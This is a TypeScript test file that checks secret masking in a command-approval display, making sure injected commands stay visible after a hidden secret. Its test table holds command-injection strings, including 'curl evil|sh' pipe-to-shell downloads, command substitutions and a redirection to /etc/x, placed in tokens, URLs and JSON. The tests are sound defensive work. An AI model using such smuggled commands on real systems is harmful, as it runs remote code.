// Owns the proof that a person who approves a command sees all of it that could run: of a text that holds a secret only the
// secret's own characters are hidden.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells write their variables like this

import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { withoutSecrets } from '../../../src/config/literal-secrets.ts';
import { maskSecret } from '../../../src/config/mask-secret.ts';
import { commandLine, type StdioLaunch } from '../../../src/model/server.ts';
import { verifies } from '../../verifies.ts';

const launch = (args: readonly string[], env: Readonly<Record<string, string>> = {}): StdioLaunch => ({
  kind: 'stdio',
  command: 'sh',
  args,
  env,
  inheritEnv: 'safe',
});
const shown = (...args: readonly string[]) => commandLine(withoutSecrets(launch(args)));
const long = 'x'.repeat(200_000);

/** The last argument as an attacker writes it, and what the person reads of it. */
const hostile: Record<string, [written: string, seen: string]> = {
  'ends at an operator': ['--token=abc;curl evil|sh', '--token=(hidden);curl evil|sh'],
  'ends at a space': ['TOKEN=abc curl evil', 'TOKEN=(hidden) curl evil'],
  'ends at an and': ['API_KEY=abc&&curl evil', 'API_KEY=(hidden)&&curl evil'],
  'ends at a redirection': ['--password=abc>/etc/x', '--password=(hidden)>/etc/x'],
  'ends at a closed quote': ['--token="abc";curl evil', '--token="(hidden)";curl evil'],
  'stays open within quotes': ["--token='abc curl evil'", "--token='\\''(hidden) curl evil'\\''"],
  'is no command substitution': ['--token=$(curl evil|sh)', '--token=$(curl evil|sh)'],
  'ends at a command substitution': ['--token=abc$(curl evil|sh)', '--token=(hidden)$(curl evil|sh)'],
  'ends at a backtick': ['--token=abc`curl evil`', '--token=(hidden)`curl evil`'],
  'ends at a variable': ['--token=abc$IFS;sh', '--token=(hidden)$IFS;sh'],
  'ends at a variable of cmd': ['TOKEN=abc%COMSPEC%', 'TOKEN=(hidden)%COMSPEC%'],
  'ends at a new line': ['TOKEN=abc\ncurl evil|sh', 'TOKEN=(hidden)\\u000acurl evil|sh'],
  'is no operator itself': ['--token=;curl evil|sh', '--token=;curl evil|sh'],
  'follows a scheme': ['Authorization: Bearer abc;curl evil', 'Authorization: Bearer (hidden);curl evil'],
  'is a password of an address': ['postgres://u:pw;curl evil|sh@h/d', 'postgres://u:(hidden);curl evil|sh@h/d'],
  'is a parameter': ['https://h/?token=abc;curl evil|sh', 'https://h/?token=(hidden);curl evil|sh'],
  'stands in JSON': ['{"token": "abc;curl evil|sh"}', '{"token": "(hidden);curl evil|sh"}'],
  'stands behind other commands': [
    'cd /x && export GH_TOKEN=abc;x --password def|sh',
    'cd /x && export GH_TOKEN=(hidden);x --password (hidden)|sh',
  ],
  'is very long': [`TOKEN=${long};curl evil|sh`, 'TOKEN=(hidden);curl evil|sh'],
  'is followed by long spaces': [`TOKEN=abc${' '.repeat(3)};sh`, 'TOKEN=(hidden)   ;sh'],
};

describe('of a masked secret in a command', () => {
  for (const [what, [written, seen]] of Object.entries(hostile))
    verifies('TRU-01', `nothing is hidden but its own characters where it ${what}`, () => {
      expect(shown('-c', written)).toBe(`sh -c '${seen}'`);
    });

  verifies('TRU-01', 'what follows an option of its name, or stands in a variable, is shown in the same way', () => {
    expect(shown('--token', 'abc;curl evil|sh')).toBe("sh --token '(hidden);curl evil|sh'");
    const { env } = withoutSecrets(launch([], { API_TOKEN: 'abc;curl evil|sh' })) as StdioLaunch;
    expect(env).toEqual({ API_TOKEN: '(hidden);curl evil|sh' });
  });

  test('further secrets are hidden too', () => {
    const second = `A_TOKEN=abc B_TOKEN=def node x --password ghi -H "Authorization: Bearer jkl" ghp_${'0'.repeat(36)} --level info`;
    expect(shown('-c', second)).toBe(
      'sh -c \'A_TOKEN=(hidden) B_TOKEN=(hidden) node x --password (hidden) -H "Authorization: Bearer (hidden)" (hidden) --level info\'',
    );
  });

  test('every space, quote and operator stays in its place, whatever is written', () => {
    const piece = fc.oneof(
      fc.constantFrom(...' \n\t;|&<>()$`"\'\\%', 'TOKEN=', '--token ', 'abc', 'curl evil', '${X}', '$(x)', '%41'),
      fc.string({ unit: 'binary', maxLength: 4 }),
    );
    const skeleton = (text: string) => text.replace(/\(hidden\)/g, '').replace(/[^\s;|&<>()$`"'\\]/g, '');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('');
        expect(skeleton(maskSecret(text))).toBe(skeleton(text));
      }),
    );
  });

  test('a long text is read in one go', () => {
    const words = `abc ${'a-b.c_'.repeat(100_000)} ${'--token '.repeat(50_000)}`;
    const before = process.cpuUsage();
    maskSecret(words);
    expect(process.cpuUsage(before).user / 1_000).toBeLessThan(2_000);
  });
});
